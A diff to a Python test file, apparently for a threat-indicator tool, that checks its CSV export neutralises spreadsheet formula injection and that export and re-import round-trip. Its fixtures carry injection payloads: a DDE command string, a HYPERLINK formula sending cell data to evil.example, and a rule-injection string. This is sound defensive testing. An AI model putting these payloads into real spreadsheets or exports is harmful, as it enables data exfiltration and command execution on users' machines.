@@ -31,7 +31,7 @@ URLS = [
 DOMAINS = ["b\u00fccher.example", "xn--80ak6aa92e.example"]
 EMAILS = ['"a;b"@evil.example', "=1+1@evil.example"]
 NAMES = ['x"; sid:1; msg:"y', "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0",
-         "-2+3", "@SUM(1,1)", "a|b\\c;d"]
+         "-2+3", "@SUM(1,1)", "a|b\\c;d", "'=already an apostrophe"]
 RANGES = ["0.0.0.0/1", "128.0.0.0/1", "::/1", "8000::/1"]
 VALUES = [*URLS, *DOMAINS, *EMAILS, *RANGES]
 
@@ -109,15 +109,47 @@ def _stored_forms() -> list[str]:
     return [v.replace("b\u00fccher.example", "xn--bcher-kva.example") for v in VALUES]
 
 
-def test_csv_keeps_every_row_whole_and_every_value_exact(exported):
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _as_read(cell: str) -> str:
+    """A cell as cbm's CSV import reads it: the one apostrophe the export put before a formula taken away."""
+    return cell[1:] if cell.startswith("'") and cell.lstrip("'").startswith(FORMULA_START) else cell
+
+
+def test_csv_keeps_every_row_whole_and_no_cell_a_spreadsheet_would_run(exported):
     rows = list(csv.reader(io.StringIO(exported["csv"], newline="")))
     header, body = rows[0], rows[1:]
     assert len(body) == len(VALUES) and all(len(row) == len(header) for row in body)
-    assert sorted(row[header.index("value")] for row in body) == sorted(_stored_forms())
-    names = {row[header.index("name")] for row in body}
-    assert names == set(NAMES)  # the peer's text, whole: a formula is not evaluated by a CSV reader
+    # no cell starts with what a spreadsheet runs as a formula (ADR 0268): the peer's formulas show as text
+    assert [cell for row in body for cell in row if cell.startswith(FORMULA_START)] == []
+    assert "'=1+1@evil.example" in {row[header.index("value")] for row in body}
+    assert sorted(_as_read(row[header.index("value")]) for row in body) == sorted(_stored_forms())
+    names = {_as_read(row[header.index("name")]) for row in body}
+    assert names == set(NAMES)  # the peer's text, whole, once the export's one apostrophe is read away
     descriptions = {row[header.index("description")] for row in body}
     assert all(d.endswith('second line, "quoted"; =1+1') for d in descriptions)
+
+
+def test_csv_export_imported_again_gives_back_every_value_and_text_exactly(exported, make_party, tmp_path):
+    """The export's apostrophes are the only ones the import takes away: a third store importing US's CSV
+    export holds the peer's values, names and descriptions exactly (a text that truly starts with an apostrophe
+    too): its own CSV export writes the same cells. (Labels are left out: a list cell is split on commas as well
+    as semicolons, so a label holding a comma comes back as two, apostrophes or not.)"""
+    eu = make_party("EU")
+    path = tmp_path / "export.csv"
+    path.write_text(exported["csv"], encoding="utf-8")
+    r = eu.cli("indicators", "import", str(path), "--json")
+    assert r.exit_code == 0, r.stderr
+    again = tmp_path / "again.csv"
+    assert eu.cli("indicators", "export", "--format", "csv", "--include-flagged", "-o", str(again)).exit_code == 0
+
+    def texts(text: str) -> list[tuple[str, ...]]:
+        header, *body = csv.reader(io.StringIO(text, newline=""))
+        return sorted(tuple(row[header.index(c)] for c in ("value", "name", "description"))
+                      for row in body)
+
+    assert texts(again.read_text(encoding="utf-8")) == texts(exported["csv"])
 
 
 def test_misp_event_loads_in_pymisp_strict_mode(exported):
